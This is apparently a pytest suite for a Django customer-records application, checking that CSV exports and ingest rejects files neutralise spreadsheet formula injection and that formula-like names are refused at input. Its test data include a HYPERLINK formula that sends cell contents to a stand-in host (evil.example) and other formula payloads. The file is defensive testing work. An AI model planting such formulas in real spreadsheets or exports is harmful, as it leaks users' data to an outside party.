"""Issue 11 item 7: formula injection. No cell of an export or a rejects file starts a formula,
and names that would are refused at input (ingest and the edit form alike)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from qiao.core.csvsafe import FORMULA_START, csv_safe, csv_safe_row
from qiao.core.validators import FieldError, clean_name
from qiao.customers.models import Customer, CustomerChange
from qiao.ingest.services import ingest_file
from tests.ingest.conftest import ORG
from tests.workbench.conftest import make_customer, own

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(A1:A9)", "-2+3"]


def _is_plain_negative_number(text: str) -> bool:
    body = text[1:]
    parts = body.split(".")
    return text.startswith("-") and 1 <= len(parts) <= 2 and all(p.isdigit() for p in parts)


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_the_text(text):
    safe = csv_safe(text)
    if _is_plain_negative_number(text):
        assert safe == text
        return
    assert not safe.startswith(FORMULA_START)
    # Nothing is lost: the cell is the text, or the text behind one apostrophe.
    assert safe == text or safe == "'" + text
    assert (safe != text) == text.startswith(FORMULA_START)


@given(st.lists(st.one_of(st.none(), st.integers(), st.text()), max_size=8))
def test_every_cell_of_a_row_is_neutralised(row):
    out = csv_safe_row(row)
    assert len(out) == len(row)
    for cell, value in zip(out, row, strict=True):
        assert cell == csv_safe(value)
        assert not cell.startswith(FORMULA_START) or _is_plain_negative_number(cell)


def test_amounts_stay_numbers():
    assert csv_safe("-1234.50") == "-1234.50"
    assert csv_safe(-7) == "-7"
    assert csv_safe("-1234.50+1") == "'-1234.50+1"


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_customer_export_neutralises_hostile_names_masked_or_not(bank, login):
    # Names loaded before the input check existed: the export is the last line of defence.
    for i, name in enumerate(HOSTILE):
        c = make_customer(f"P00009{i:02d}", name, bank.o1, aum=1000 + i)
        own(c, bank.staff["cm_owner"])
    rows = _csv(login("cm_owner").post("/customers/export/", {}))
    names = {r[0]: r[1] for r in rows[2:]}
    for i in range(len(HOSTILE)):
        cell = names[f"P00009{i:02d}"]
        assert cell.startswith("'"), cell  # masked (=****) and still neutralised
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_plain_negative_number(cell), cell


def test_clean_name_refuses_a_formula_start():
    for name in ("=1+1", "+1+1", "@SUM(A1)", " =1"):
        try:
            clean_name(name)
        except FieldError as exc:
            assert "may not start with" in str(exc.reason)
        else:
            raise AssertionError(name)
    assert clean_name("张三") == "张三"
    assert clean_name("O'Brien-Smith") == "O'Brien-Smith"
    assert clean_name("-雷锋-") == "-雷锋-"  # a leading hyphen is allowed (docs/privacy.md)


def test_the_edit_form_refuses_a_formula_name(bank, login):
    response = login("cm_owner").post(
        f"/customers/{bank.x.customer_no}/edit/", {"name": "=HYPERLINK(1)"}
    )
    assert response.status_code == 400
    assert 'id="error-name"' in response.content.decode()
    bank.x.refresh_from_db()
    assert bank.x.name == "张三"
    assert not CustomerChange.objects.exists()


HEADER = "customer_no,customer_type,name,id_type,id_no,branch_code,open_date,legal_rep\n"


def test_ingest_rejects_formula_names_and_its_rejects_file_is_neutralised(db, tmp_path: Path):
    org = tmp_path / "org_units.csv"
    org.write_text(ORG, encoding="utf-8")
    assert ingest_file(org).ok
    rows = [
        "P0000001,P,张三,PASSPORT,E1234567,O0101,2015-06-01,",
        "P0000002,P,=1+1,PASSPORT,E1234568,O0101,2015-06-01,",
        'P0000003,C,"@SUM(A1)",OTHER,X1234569,O0101,2015-06-01,',
        "C0000004,C,某公司,OTHER,X1234570,O0101,2015-06-01,+cmd",
    ]
    path = tmp_path / "customers.csv"
    path.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    with translation.override("en"):
        result = ingest_file(path)
    assert result.ok and result.loaded == 1 and result.rejected == 3
    assert list(Customer.objects.values_list("customer_no", flat=True)) == ["P0000001"]
    with (tmp_path / "customers.csv.rejects.csv").open(encoding="utf-8-sig") as fh:
        rejects = list(csv.DictReader(fh))
    by_line = {r["line"]: r for r in rejects}
    assert by_line["3"]["column"] == "name" and by_line["3"]["value"] == "'=1+1"
    assert "may not start with" in by_line["3"]["reason"]
    assert by_line["4"]["value"] == "'@SUM(A1)"
    assert by_line["5"]["column"] == "legal_rep" and by_line["5"]["value"] == "'+cmd"
